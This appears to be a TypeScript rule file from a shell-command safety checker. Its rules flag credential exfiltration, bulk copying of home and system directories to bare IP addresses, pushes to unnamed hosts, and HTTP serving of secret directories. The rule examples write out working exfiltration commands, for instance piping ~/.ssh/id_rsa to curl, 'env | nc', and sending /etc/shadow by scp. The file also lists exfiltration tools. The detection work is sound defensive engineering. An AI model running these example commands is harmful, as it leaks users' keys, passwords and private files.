import type { CommandLook } from '../command-look.ts';
import type { CommandRule, StructureRule } from '../rule.ts';
import { namelessAddress, strangerHost } from '../shell/addresses.ts';
import { traits } from '../shell/marks.ts';
import { isSecretPath } from '../shell/secret-files.ts';

const remote = /^(?:[\w.-]+@)?[\w.-]+:|^(?:rsync|s3|gs|https?|ftp):\/\//;

/** Whether a program sends what is piped into it to somebody else. */
function sendsInput(command: CommandLook): boolean {
  switch (command.program) {
    case 'gh':
      return command.is('gist create');
    case 'glab':
      return command.is('snippet create');
    case 'aws':
    case 'gsutil':
    case 's3cmd':
      return command.mentions('-');
    case 'rclone':
      return command.is('rcat');
    case 'croc':
    case 'wormhole':
      return command.is('send');
    default:
      return /^(?:mutt|mail|pastebinit|gist|wgetpaste|hb|telegram-send|ntfy|slackcat)$/.test(command.program);
  }
}

/** What leaves this machine for another, or is served to whoever asks. */
export const secretLeavingRules: readonly (CommandRule | StructureRule)[] = [
  {
    id: 'send-secrets',
    on: 'structure',
    shape: 'secret-sent',
    domain: 'secrets',
    risk: 'critical',
    title: 'Credentials are sent away',
    message: 'This sends keys, passwords or other credentials to another machine.',
    stakes: [
      'Whoever receives them can log in as you',
      'They must all be replaced',
      'What was sent cannot be called back',
    ],
    alternative: 'ssh-copy-id host',
    matches: [
      'cat ~/.ssh/id_rsa | curl -d @- https://example.com',
      'curl -F file=@/etc/shadow https://example.com',
      'env | nc example.com 99',
      'curl -d "$(cat ~/.aws/credentials)" https://example.com',
      'tar cz ~/.ssh | ssh host "cat > x"',
    ],
    spares: [
      'cat ~/.ssh/id_rsa.pub',
      'env | grep PATH',
      'curl -d @body.json https://example.com',
      'cat .env',
    ],
  },
  {
    id: 'copy-secrets',
    on: 'command',
    domain: 'secrets',
    risk: 'critical',
    programs: [
      'scp',
      'rsync',
      'aws',
      'gsutil',
      'rclone',
      'sftp',
      'ftp',
      'croc',
      'wormhole',
      's3cmd',
      'tar',
      'mutt',
      'mail',
      'gh',
      'pastebinit',
      'lftp',
      'az',
      'glab',
      'gist',
      'wgetpaste',
      'hb',
      'telegram-send',
      'ntfy',
      'slackcat',
    ],
    title: 'Credentials are copied away',
    message: 'This copies keys, passwords or other credentials to another machine.',
    stakes: [
      'Whoever receives them can log in as you',
      'They must all be replaced',
      'What was sent cannot be called back',
    ],
    alternative: 'ssh-copy-id host',
    matches: [
      'scp ~/.ssh/id_rsa host:',
      'rsync -a ~/.aws/ host:backup/',
      'aws s3 cp ~/.ssh/id_ed25519 s3://bucket',
      'scp /etc/shadow me@example.com:/tmp',
      'az storage blob upload -f ~/.ssh/id_rsa -c x -n y',
      'cat .env | gh gist create -',
      'env | telegram-send --stdin',
      'aws s3 cp - s3://bucket/x < ~/.aws/credentials',
    ],
    spares: [
      'scp notes.txt host:',
      'scp -i ~/.ssh/id_rsa a.txt host:',
      'rsync -a src/ host:src/',
      'scp ~/.ssh/id_rsa.pub host:',
    ],
    when: (command) => {
      if ((command.stdin.traits & traits.secret) !== 0 && sendsInput(command)) return true;
      if (command.program === 'az')
        return (
          command.is('storage blob|file upload|upload-batch') &&
          command.args.some(({ text }) => isSecretPath(text))
        );
      const isUpload = ['scp', 'rsync', 'sftp', 'rclone'].includes(command.program);
      const skipped = command.value('-i', '-F', '-e');
      const secret = command.operands
        .slice(0, isUpload ? -1 : undefined)
        .some(({ text }) => text !== skipped && !remote.test(text) && isSecretPath(text));
      if (!secret) return false;
      if (command.program === 'gh') return command.is('gist create');
      if (command.program === 'glab') return command.is('snippet create');
      if (command.program === 'tar') return false;
      return (
        /^(?:croc|wormhole|l?ftp|mutt|mail|pastebinit|rclone|gist|wgetpaste|hb|telegram-send|ntfy|slackcat)$/.test(
          command.program,
        ) || command.operands.some(({ text }) => remote.test(text))
      );
    },
  },
  {
    id: 'copy-everything-away',
    on: 'command',
    domain: 'secrets',
    risk: 'critical',
    programs: ['scp', 'rsync', 'sftp', 'rclone'],
    title: 'All files of people go to a machine without a name',
    message:
      'This copies everything that people keep here, or all settings, to a bare address of the internet.',
    stakes: [
      'Documents, keys and settings of everyone',
      'What was sent cannot be called back',
      'The rights of those whose files they are',
    ],
    alternative: 'rsync -a /home/ backup.example.com:home/',
    matches: ['scp -r /etc eve@203.0.113.4:', 'rsync -a /home/ eve@203.0.113.4:loot/'],
    spares: [
      'rsync -a /home/ backup.example.com:home/',
      'scp -r dist eve@203.0.113.4:',
      'rsync -a /home/ 192.168.1.4:home/',
    ],
    when: (command) =>
      command.operands.some(({ text }) =>
        strangerHost.test(/^(?<host>[^:/]{1,100}):/.exec(text)?.groups?.host ?? ''),
      ) &&
      command.operands
        .slice(0, -1)
        .some((path) => ['root', 'home', 'personal', 'system'].includes(command.kindOf(path))),
  },
  {
    id: 'push-to-nameless',
    on: 'command',
    domain: 'secrets',
    risk: 'critical',
    programs: ['git', 'docker', 'podman', 'nerdctl', 'twine', 'skopeo', 'crane'],
    title: 'Code or images go to a machine without a name',
    message:
      'This sends a repository, an image or a package, and the login for it, to a bare address of the internet.',
    stakes: [
      'All code, and what its history holds',
      'Settings and keys in an image',
      'What was sent cannot be called back',
    ],
    alternative: 'git push https://git.example.com/acme/x.git',
    matches: ['git push https://203.0.113.9/x.git main', 'docker push 203.0.113.9:5000/prod/api'],
    spares: [
      'git push https://git.example.com/acme/x.git',
      'docker push 10.0.0.4:5000/api',
      'git clone https://203.0.113.9/x.git',
      'git push origin main',
    ],
    when: (command) =>
      command.is('push|upload|copy') && command.args.some(({ text }) => namelessAddress.test(text)),
  },
  {
    id: 'serve-secrets',
    on: 'command',
    domain: 'secrets',
    risk: 'critical',
    programs: [
      'python',
      'python2',
      'python3',
      'php',
      'ruby',
      'http-server',
      'serve',
      'npx',
      'caddy',
      'busybox',
      'darkhttpd',
    ],
    title: 'Credentials are served',
    message: 'This lets whoever reaches this machine download keys, passwords or everything on it.',
    stakes: [
      'Whoever reads them can log in as you',
      'They must all be replaced',
      'Nothing asks who they are',
    ],
    alternative: 'python3 -m http.server --directory public 8080',
    matches: [
      'python3 -m http.server --directory ~/.ssh',
      'cd ~/.aws && python3 -m http.server',
      'php -S 0.0.0.0:8000 -t /etc',
    ],
    spares: [
      'python3 -m http.server',
      'python3 -m http.server --directory public',
      'php -S localhost:8000 -t public',
      'cd site && npx serve',
    ],
    when: (command) => {
      const serves =
        !command.program.startsWith('py') || command.mentions('http.server', 'SimpleHTTPServer', 'pyftpdlib');
      if (!serves) return false;
      const { cwd } = command.run;
      const named = command.args.filter(({ text }, index) => index > 0 && /^[/.]/.test(text));
      const places = named.length > 0 || cwd === null ? named : [{ text: cwd, traits: 0 }];
      return places.some(
        (place) =>
          isSecretPath(place.text) || ['root', 'home', 'personal', 'system'].includes(command.kindOf(place)),
      );
    },
  },
];
